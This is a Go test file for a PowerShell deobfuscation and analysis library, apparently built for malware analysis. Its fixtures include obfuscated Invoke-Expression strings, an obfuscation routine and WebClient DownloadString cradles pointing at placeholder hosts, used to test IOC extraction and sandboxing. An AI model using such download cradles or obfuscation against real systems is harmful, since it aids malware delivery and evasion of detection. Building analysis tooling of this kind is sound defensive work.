package invokedeob_test

import (
	"strings"
	"testing"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

func TestDeobfuscatePublicAPI(t *testing.T) {
	src := "I`eX (\"{1}{0}\" -f 'ost public', 'write-h')"
	res, err := invokedeob.Deobfuscate(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Script, "Write-Host public") {
		t.Errorf("script = %q", res.Script)
	}
	if res.Stats.PiecesRecovered == 0 || res.Stats.LayersUnwrapped == 0 {
		t.Errorf("stats = %+v", res.Stats)
	}
}

func TestDeobfuscateInvalidInput(t *testing.T) {
	if _, err := invokedeob.Deobfuscate("while (", nil); err == nil {
		t.Error("expected error for invalid syntax")
	}
	if invokedeob.ValidSyntax("while (") {
		t.Error("ValidSyntax accepted garbage")
	}
	if !invokedeob.ValidSyntax("while ($x) { }") {
		t.Error("ValidSyntax rejected valid script")
	}
}

func TestObfuscateRoundTripPublicAPI(t *testing.T) {
	const payload = "write-host api-test"
	for _, tech := range invokedeob.Techniques() {
		if tech == "random-name" || tech == "alias" || tech == "encode-whitespace" {
			continue
		}
		obf, err := invokedeob.Obfuscate(payload, tech, 5)
		if err != nil {
			t.Errorf("Obfuscate(%s): %v", tech, err)
			continue
		}
		res, err := invokedeob.Deobfuscate(obf, nil)
		if err != nil {
			t.Errorf("Deobfuscate after %s: %v", tech, err)
			continue
		}
		if !strings.Contains(strings.ToLower(res.Script), payload) {
			t.Errorf("%s: not recovered: %q", tech, res.Script)
		}
	}
}

func TestAnalyzeAndScore(t *testing.T) {
	obf, err := invokedeob.Obfuscate("write-host x", "encode-bxor", 2)
	if err != nil {
		t.Fatal(err)
	}
	if invokedeob.ObfuscationScore(obf) == 0 {
		t.Error("obfuscated script scored 0")
	}
	found := false
	for _, d := range invokedeob.AnalyzeObfuscation(obf) {
		if d.Technique == "encode-bxor" && d.Level == 3 {
			found = true
		}
	}
	if !found {
		t.Errorf("bxor not detected: %+v", invokedeob.AnalyzeObfuscation(obf))
	}
}

func TestTechniqueLevels(t *testing.T) {
	if invokedeob.TechniqueLevel("ticking") != 1 ||
		invokedeob.TechniqueLevel("concat") != 2 ||
		invokedeob.TechniqueLevel("securestring") != 3 {
		t.Error("levels wrong")
	}
	if invokedeob.TechniqueLevel("nope") != 0 {
		t.Error("unknown technique level")
	}
	if len(invokedeob.Techniques()) < 17 {
		t.Errorf("techniques = %d", len(invokedeob.Techniques()))
	}
}

func TestExtractIOCsPublic(t *testing.T) {
	iocs := invokedeob.ExtractIOCs("(New-Object Net.WebClient).DownloadString('http://bad.test/x.ps1') # 203.0.113.77")
	if len(iocs.URLs) != 1 || len(iocs.IPs) != 1 || len(iocs.Ps1Files) != 1 {
		t.Errorf("iocs = %+v", iocs)
	}
	if iocs.Count() != 3 {
		t.Errorf("count = %d", iocs.Count())
	}
}

func TestSandboxPublic(t *testing.T) {
	rep := invokedeob.RunSandbox("(New-Object Net.WebClient).downloadstring('http://api.test/x')")
	if len(rep.NetworkEvents()) == 0 {
		t.Errorf("no network events: %+v", rep.Events)
	}
	if !invokedeob.BehaviorConsistent(
		"(New-Object Net.WebClient).downloadstring('http://same.test/')",
		"$u='http://same.test/'; (New-Object Net.WebClient).downloadstring($u)") {
		t.Error("equivalent scripts inconsistent")
	}
	if invokedeob.BehaviorConsistent("write-host a", "(New-Object Net.WebClient).downloadstring('http://x.test/')") {
		t.Error("different behaviour reported consistent")
	}
}

func TestGenerateCorpusPublic(t *testing.T) {
	samples := invokedeob.GenerateCorpus(7, 15)
	if len(samples) != 15 {
		t.Fatalf("samples = %d", len(samples))
	}
	for _, s := range samples {
		if !invokedeob.ValidSyntax(s.Source) {
			t.Errorf("%s: invalid syntax", s.ID)
		}
		if s.Original == "" || s.Family == "" {
			t.Errorf("%s: incomplete metadata", s.ID)
		}
	}
	again := invokedeob.GenerateCorpus(7, 15)
	if samples[3].Source != again[3].Source {
		t.Error("corpus not deterministic")
	}
}

// TestEndToEndWildSample is the full workflow: generate, deobfuscate,
// verify IOCs and behaviour.
func TestEndToEndWildSample(t *testing.T) {
	for _, s := range invokedeob.GenerateCorpus(1234, 10) {
		res, err := invokedeob.Deobfuscate(s.Source, nil)
		if err != nil {
			t.Errorf("%s: %v", s.ID, err)
			continue
		}
		if !invokedeob.BehaviorConsistent(s.Source, res.Script) {
			t.Errorf("%s: behaviour diverged", s.ID)
		}
	}
}

func TestOptionsAblation(t *testing.T) {
	src := "$p = 'pa'+'rt'\nwrite-host $p"
	full, err := invokedeob.Deobfuscate(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	noTrace, err := invokedeob.Deobfuscate(src, &invokedeob.Options{DisableVariableTracing: true})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(full.Script, "'part'") {
		t.Errorf("full engine: %q", full.Script)
	}
	if strings.Contains(noTrace.Script, "Write-Host 'part'") {
		t.Errorf("tracing disabled but inlined: %q", noTrace.Script)
	}
}

// TestPassTraceSelfDuration pins that library callers see per-pass
// self time: every pass reports SelfDuration within [0, Duration], and
// on a script with a nested layer the ast pass, which re-enters that
// layer, reports strictly less self time than cumulative time.
func TestPassTraceSelfDuration(t *testing.T) {
	res, err := invokedeob.Deobfuscate("IEX 'IEX ''Write-Host nested'''", nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Stats.LayersUnwrapped == 0 {
		t.Fatalf("fixture unwrapped no layer: %+v", res.Stats)
	}
	var ast *invokedeob.PassStat
	for i, p := range res.PassTrace {
		if p.SelfDuration < 0 || p.SelfDuration > p.Duration {
			t.Errorf("pass %s: self %v outside [0, %v]", p.Pass, p.SelfDuration, p.Duration)
		}
		if p.Pass == "ast" {
			ast = &res.PassTrace[i]
		}
	}
	if ast == nil {
		t.Fatalf("trace has no ast pass: %+v", res.PassTrace)
	}
	if ast.SelfDuration <= 0 || ast.SelfDuration >= ast.Duration {
		t.Errorf("ast pass: self %v, cumulative %v; want 0 < self < cumulative", ast.SelfDuration, ast.Duration)
	}
}
